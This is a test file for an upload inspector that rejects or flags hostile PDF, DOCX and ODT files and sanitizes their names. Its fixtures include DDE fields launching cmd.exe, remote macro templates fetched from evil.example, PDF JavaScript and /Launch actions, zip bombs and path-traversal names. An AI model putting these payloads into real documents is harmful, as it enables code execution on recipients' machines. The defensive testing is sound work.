import { deflateSync } from 'node:zlib';
import { describe, expect, it, test } from 'vitest';
import { measureCpuMs } from '../../../../../test/cpu-time.ts';
import { makeDocx, makeOdt, makePdf, makeZip } from '../../../../../test/zip.ts';
import { HttpError } from '../../../../platform/http/errors/http-error.ts';
import { HEAD_BYTES, inspectFile, mayBeDocument, toFileName } from './inspect.ts';

async function rejectionOf(file: Buffer): Promise<string> {
  const error = await inspectFile(file).catch((error) => error);
  expect(error).toBeInstanceOf(HttpError);
  expect(error.status).toBe(415);
  return error.message;
}

const relationships = (type: string) => ({
  name: 'word/_rels/settings.xml.rels',
  content: `<Relationships><Relationship Id="rId1" Type="http://schemas/${type}" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
});

const withoutMode = (type: string, target: string) => ({
  name: 'word/_rels/document.xml.rels',
  content: `<Relationships><Relationship Id="r" Type="http://schemas/${type}" Target="${target}"/></Relationships>`,
});

const docxWith = (content: string, head = '') =>
  makeDocx([{ name: 'word/footer1.xml', content: `${head}<w:ftr>${content}</w:ftr>` }]);
const odtWith = (content: string) => makeOdt([{ name: 'styles.xml', content: `<a>${content}</a>` }]);

/** The first part of a file for the web. */
const linearized = Buffer.from('%PDF-1.7\n1 0 obj\n<< /Linearized 1 >>\nendobj\nstartxref\n0\n%%EOF\n');

describe('a document is recognized by its content', () => {
  test.each([
    ['pdf', makePdf()],
    ['pdf', Buffer.concat([Buffer.from('\r\n\r\n'), makePdf()])],
    ['pdf', Buffer.concat([Buffer.from('\ufeff'), makePdf()])],
    ['pdf', Buffer.concat([Buffer.from('\x1b%-12345X@PJL SET RESOLUTION=600\r\n'), makePdf()])],
    ['pdf', Buffer.concat([Buffer.alloc(1019, '\n'), makePdf()])],
    ['pdf', Buffer.concat([makePdf(), Buffer.alloc(500_000)])],
    ['pdf', Buffer.concat([linearized, Buffer.from('2 0 obj\nendobj\nstartxref\n173\n%%EOF\n')])],
    ['docx', makeDocx()],
    ['odt', makeOdt()],
  ])('%s', async (kind, file) => {
    expect(mayBeDocument(file.subarray(0, HEAD_BYTES))).toBe(true);
    expect(await inspectFile(file)).toMatchObject({ kind, warnings: [] });
  });

  test.each([
    ['a web page', Buffer.from('<html><script>alert(1)</script></html>')],
    ['a program', Buffer.from('MZ\x90\0')],
    ['nothing', Buffer.alloc(0)],
    ['the beginning of a PDF', Buffer.from('%PDF-1.7\n1 0 obj')],
    ['the beginning of a linearized PDF', linearized],
    ['a PDF after more than 1,024 bytes', Buffer.concat([Buffer.alloc(1020, '\n'), makePdf()])],
    ['a web page with a PDF inside', Buffer.concat([Buffer.from('<script>x()</script>'), makePdf()])],
    ['a program with a PDF inside', Buffer.concat([Buffer.from('MZ\x90\0\x03\0'), makePdf()])],
    ['a ZIP archive with a PDF inside', makeZip([{ name: 'cv.pdf', content: makePdf(), isStored: true }])],
    ['a ZIP archive of anything', makeZip([{ name: 'cv.exe', content: 'MZ' }])],
    ['a workbook', makeDocx([], '<Types>spreadsheetml.sheet.main+xml</Types>')],
    [
      'an ODT without content',
      makeZip([{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', isStored: true }]),
    ],
    ['a damaged archive', makeDocx().subarray(0, -5)],
    ['an archive with a truncated directory', Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(100)])],
  ])('%s is rejected', async (_, file) => {
    expect(await rejectionOf(file)).toBe('The file must be a PDF, DOCX or ODT document.');
  });
});

describe('macros are rejected', () => {
  test.each([
    ['a DOCX with a VBA project', makeDocx([{ name: 'word/vbaProject.bin', content: 'x' }])],
    ['a DOCM', makeDocx([], 'application/vnd.ms-word.document.macroEnabled.main+xml')],
    ['a DOCX whose template is elsewhere', makeDocx([relationships('attachedTemplate')])],
    [
      'a DOCX with a template of another part',
      makeDocx([{ ...relationships('attachedTemplate'), name: 'word/_rels/other.xml.RELS' }]),
    ],
    [
      'a DOCX whose relationship hides its type behind another value',
      makeDocx([
        {
          name: 'word/_rels/settings.xml.rels',
          content: `<Relationships><Relationship Target="https://evil.example/x> Type='a/hyperlink'&#34; Type=&#34;a/hyperlink&#34; x=&#34;${'y'.repeat(5000)}" Type="a/attachedTemplate" TargetMode="External"/></Relationships>`,
        },
      ]),
    ],
    [
      'a DOCX whose types and relationships have references to characters',
      makeDocx([relationships('attached&#x54;emplate')]),
    ],
    [
      'a DOCM in references to characters',
      makeDocx([], 'application/vnd.ms-word.document.macro&#69;nabled.main+xml'),
    ],
    [
      'a DOCX whose VBA project has another name',
      makeDocx([
        {
          name: 'word/_rels/document.xml.rels',
          content:
            '<Relationships><Relationship Id="r" Type="http://schemas/vbaProject" Target="x.bin"/></Relationships>',
        },
      ]),
    ],
    ['an ODT with Basic', makeOdt([{ name: 'Basic/Standard/Module1.xml', content: 'x' }])],
    ['an ODT with scripts', makeOdt([{ name: 'Scripts/python/x.py', content: 'x' }])],
  ])('%s', async (_, file) => {
    expect(await rejectionOf(file)).toContain('has macros');
  });

  test.each([
    ['of a web server', 'https://evil.example/t.dotm'],
    ['of a file server', '\\\\evil.example\\t.dotm'],
    ['of a file server, as a URL', 'file://evil.example/t.dotm'],
    ['of a file server, as a URL with four slashes', 'file:////evil.example/t.dotm'],
    ['of a file server, with escapes', 'file:///%5C%5Cevil.example/t.dotm'],
  ])('a template %s', async (_, target) => {
    expect(await rejectionOf(withTemplate(target))).toContain('has macros');
  });

  test.each([
    ['in one run', field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')],
    ['between runs', field('<w:x/>D', 'DE', 'AUTO cmd')],
    ['in references to characters', field(' &#68;D&#x45; cmd')],
    ['in a deleted run', field('dde cmd').replaceAll('instrText', 'delInstrText')],
    ['inside another field', field('IF 1 = 1 ', field('DDE cmd "x"'))],
    ['in an attribute', '<w:fldSimple w:dirty="a>b" w:instr=" DDEAUTO cmd ">x</w:fldSimple>'],
    ['with another prefix', "<x:fldSimple x:instr='DDE cmd'/>"],
  ])('a field of DDE %s', async (_, content) => {
    for (const name of ['word/header1.xml', 'other/part.bin'])
      expect(await rejectionOf(makeDocx([{ name, content: `<w:hdr>${content}</w:hdr>` }]))).toContain(
        'start programs',
      );
  });

  test.each([
    ['a script', '<office:script script:language="ooo:Basic"/>'],
    ['an event listener', '<script:event-listener script:event-name="dom:load" xlink:href="x"/>'],
    ['a field that runs a macro', '<text:execute-macro/>'],
    ['a link that runs a macro', '<text:a xlink:href="vnd.sun.star.script:x?language=Python">x</text:a>'],
    ['a link by DDE', '<office:dde-source office:dde-application="soffice"/>'],
    ['a menu that runs a macro', '<menu:menuitem menu:id="vnd.sun.&#115;tar.script:x"/>'],
  ])('an ODT with %s', async (_, content) => {
    expect(await rejectionOf(makeOdt([{ name: 'styles.xml', content: `<a>${content}</a>` }]))).toContain(
      'has macros',
    );
  });
});

/** A field whose instruction is divided between runs. */
function field(...runs: string[]): string {
  const instructions = runs.map((run) => `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`);
  return `<w:fldChar w:fldCharType="begin"/>${instructions.join('<w:proofErr/>')}<w:fldChar w:fldCharType="separate"/>x<w:fldChar w:fldCharType="end"/>`;
}

const withTemplate = (target: string) =>
  makeDocx([
    {
      name: 'word/_rels/settings.xml.rels',
      content: `<Relationships><Relationship Id="rId1" Type="http://schemas/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
    },
  ]);

/** Word writes it into each document that began with a template. */
it.each([
  'file:///C:\\Users\\Mette\\AppData\\Roaming\\Microsoft\\Templates\\Resume.dotx',
  'file://localhost/Users/mette/Library/Resume.dotx',
  'Resume.dotx',
])('the template of the candidate, %s, is no reason to reject a document or to warn', async (target) => {
  expect((await inspectFile(withTemplate(target))).warnings).toEqual([]);
});

describe('a file says what it may do', () => {
  test.each([
    ['scripts', makePdf('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>')],
    ['scripts', makePdf('<< /S /J#61vaScript >>')],
    ['programs', makePdf('<< /S /Launch /F (calc.exe) >>')],
    ['embedded_files', makePdf('<< /Names << /EmbeddedFiles 2 0 R >> >>')],
    ['embedded_files', makePdf('<< /Type /Annot /Subtype /FileAttachment /FS 3 0 R >>')],
    ['embedded_files', makePdf('<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>')],
    ['unchecked', makePdf('<< /AcroForm << /XFA 4 0 R >> >>')],
    ['unchecked', makePdf('<< /Type /Obj#53tm >>')],
    ['encrypted', makePdf('<< /Encrypt 4 0 R >>')],
    ['embedded_files', makeDocx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }])],
    [
      'embedded_files',
      makeDocx([
        {
          name: 'word/_rels/document.xml.rels',
          content:
            '<Relationships><Relationship Id="r" Type="http://schemas/oleObject" Target="x.bin"/></Relationships>',
        },
      ]),
    ],
    ['active_content', makeDocx([{ name: 'word/activeX/activeX1.bin', content: 'x' }])],
    ['external_content', makeDocx([relationships('frame')])],
    ['external_content', docxWith(field(' INCLUDEPICTURE "https://evil.example/a.png" \\* MERGEFORMAT '))],
    ['external_content', docxWith(field('INCLUDETEXT "\\\\evil.example\\a"'))],
    ['external_content', makeDocx([withoutMode('image', 'https://evil.example/a.png')])],
    ['unchecked', docxWith(field(field('QUOTE 68 68 69'), ' cmd'))],
    ['unchecked', docxWith(field('D<!-- -->DE cmd'))],
    ['unchecked', docxWith(field('D<![CDATA[D]]>E cmd'))],
    ['unchecked', docxWith('<w:p/>', '<?xml version="1.0" encoding="UTF-7"?>')],
    ['unchecked', docxWith('<w:p/>', '<!DOCTYPE a [<!ENTITY e "x">]>')],
    ['unchecked', makeDocx([{ name: 'word/header1.xml', content: Buffer.from('\ufeff<a/>', 'utf16le') }])],
    ['unchecked', makeDocx([{ name: 'word/header1.xml', content: `<a>${' '.repeat(8_000_000)}</a>` }])],
    ['embedded_files', makeOdt([{ name: 'Object 1/content.xml', content: 'x' }])],
    ['embedded_files', odtWith('<draw:object-ole xlink:href="./a"/>')],
    ['active_content', odtWith('<draw:applet draw:code="a.class"/>')],
    ['external_content', odtWith('<draw:image xlink:href="https://evil.example/a.png"/>')],
    ['external_content', odtWith("<draw:image xlink:href = '//evil.example/a.png'/>")],
    ['external_content', odtWith('<text:section-source xlink:href="../a.odt"/>')],
    ['external_content', odtWith('<draw:floating-frame x:href="&#104;ttps://evil.example/"/>')],
    ['encrypted', odtWith('<manifest:encryption-data/>')],
  ])('%s', async (warning, file) => {
    expect((await inspectFile(file)).warnings).toEqual([warning]);
  });

  it('also in a compressed object stream of a PDF', async () => {
    const stream = deflateSync('1 0 << /S /JavaScript >>').toString('latin1');
    const file = makePdf(`<< /Type /ObjStm /Filter /FlateDecode >>\nstream\r\n${stream}\nendstream`);
    expect((await inspectFile(file)).warnings).toEqual(['scripts']);
  });

  it.each([131_060, 131_072, 131_300])('also far into the file, at byte %i', async (at) => {
    const file = makePdf(`${'x'.repeat(at)} << /S /JavaScript >>`);
    expect((await inspectFile(file)).warnings).toEqual(['scripts']);
  });

  it('a text that looks like a field, a tag or a reference says nothing', async () => {
    const words = '{ DDEAUTO cmd } instrText href="https://mette.example" &lt;script&gt; macro:';
    expect((await inspectFile(docxWith(`<w:t>${words}</w:t>${field(' PAGE ')}`))).warnings).toEqual([]);
    expect((await inspectFile(docxWith(field(' HYPERLINK "https://mette.example" ')))).warnings).toEqual([]);
    const link = `<text:a xlink:href="https://mette.example">${words}</text:a><office:scripts/>`;
    const own =
      '<draw:image xlink:href="Pictures/a.png"/><draw:a xlink:href="../a"/><meta:template xlink:href="../../a.ott"/>';
    expect((await inspectFile(odtWith(link + own))).warnings).toEqual([]);
  });

  it('costs a time that grows with the size only', async () => {
    const hostile = ['<a b="', '<w:fldSimple ', '<!--', '<a b=c ', '&#', `<a ${' b'.repeat(100)}`];
    const inspect = async () => {
      for (const text of hostile)
        await inspectFile(docxWith(`instrText${text.repeat(3_000_000 / text.length)}`));
    };
    expect(await measureCpuMs(inspect)).toBeLessThan(10_000);
  });

  it('a link to a web page and words that only begin like a name say nothing', async () => {
    expect((await inspectFile(makeDocx([relationships('hyperlink')]))).warnings).toEqual([]);
    expect((await inspectFile(makePdf('(I know /JSON and /Launcher) <</JSX 1>>'))).warnings).toEqual([]);
  });
});

describe('bombs are rejected without being unpacked', () => {
  test.each([
    ['that claims 4 GB', makeDocx([{ name: 'word/media/a.png', content: 'x', claimedBytes: 0xffffffff }])],
    ['of 100 MB of zeros', makeDocx([{ name: 'word/a.xml', content: Buffer.alloc(100_000_000) }])],
    [
      'whose types expand to more than they say',
      makeZip([
        { name: '[Content_Types].xml', content: Buffer.alloc(5_000_000), claimedBytes: 100 },
        { name: 'word/document.xml', content: 'x' },
      ]),
    ],
    [
      'whose relationships expand to more than they say',
      makeDocx([{ name: 'word/_rels/a.rels', content: Buffer.alloc(5_000_000, ' '), claimedBytes: 100 }]),
    ],
    [
      'whose relationships are too long to be checked',
      makeDocx([{ name: 'word/_rels/a.rels', content: Buffer.alloc(5_000_000, ' ') }]),
    ],
    [
      'with two entries of one name',
      makeDocx([{ name: '[content_types].xml', content: 'application/vnd.ms-word.document.macroEnabled' }]),
    ],
    [
      'with entities of its own',
      makeDocx([{ name: 'word/_rels/a.rels', content: '<!DOCTYPE a [<!ENTITY e "x">]><Relationships/>' }]),
    ],
    [
      'with relationships in UTF-16',
      makeDocx([{ name: 'word/_rels/a.rels', content: Buffer.from('<a/>', 'utf16le') }]),
    ],
    [
      'with 3,000 entries',
      makeDocx(Array.from({ length: 3000 }, (_, n) => ({ name: `word/${n}`, content: '' }))),
    ],
  ])('%s', async (_, file) => {
    expect(await rejectionOf(file)).toContain('must be a PDF');
  });

  it('with entries that share their bytes', async () => {
    const file = makeDocx([{ name: 'word/a.xml', content: 'x'.repeat(100) }]);
    const last = file.lastIndexOf('PK\x01\x02', undefined, 'latin1');
    // The last entry of the directory points to the first file.
    file.writeUInt32LE(0, last + 42);
    expect(await rejectionOf(file)).toContain('must be a PDF');
  });

  it('a PDF with thousands of object streams costs a bounded time', async () => {
    const bomb = deflateSync(Buffer.alloc(20_000_000)).toString('latin1');
    const stream = `<< /Type /ObjStm >>\nstream\n${bomb}\nendstream\n`;
    const inspect = async () =>
      expect((await inspectFile(makePdf(stream.repeat(300)))).warnings).toEqual(['unchecked']);
    expect(await measureCpuMs(inspect)).toBeLessThan(10_000);
  });
});

test.each([
  ['Mette Holm.pdf', 'pdf', 'Mette Holm.pdf'],
  ['cv.pdf.exe', 'pdf', 'cv.pdf.exe.pdf'],
  ['cv.PDF', 'docx', 'cv.docx'],
  ['../../etc/passwd', 'odt', 'passwd.odt'],
  ['C:\\Users\\mette\\cv.docx', 'docx', 'cv.docx'],
  ['cv\u202efdp.exe\u0000\n"<>.pdf', 'pdf', 'cvfdp.exe.pdf'],
  ['', 'pdf', 'resume.pdf'],
  ['...', 'pdf', 'resume.pdf'],
  ['é'.repeat(10_000), 'pdf', `${'é'.repeat(100)}.pdf`],
] as const)('the name %j of a %s becomes a safe one', (name, kind, expected) => {
  expect(toFileName(name, kind)).toBe(expected);
});
